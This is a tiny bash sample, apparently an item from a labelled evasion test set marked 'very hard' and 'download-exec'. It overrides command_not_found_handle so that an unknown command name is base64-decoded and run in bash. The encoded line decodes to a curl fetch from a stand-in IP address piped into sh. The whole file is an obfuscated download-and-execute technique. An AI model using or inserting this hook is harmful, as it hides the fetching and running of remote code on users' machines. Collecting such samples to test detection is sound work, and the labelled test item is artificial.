# evasion: command_not_found_handle decodes the unknown command name and runs it
# grade: very hard; does: download-exec
command_not_found_handle() {
	printf '%s' "$1" | base64 -d | bash
}
Y3VybCAtcyAyMDMuMC4xMTMuNS9zfHNo
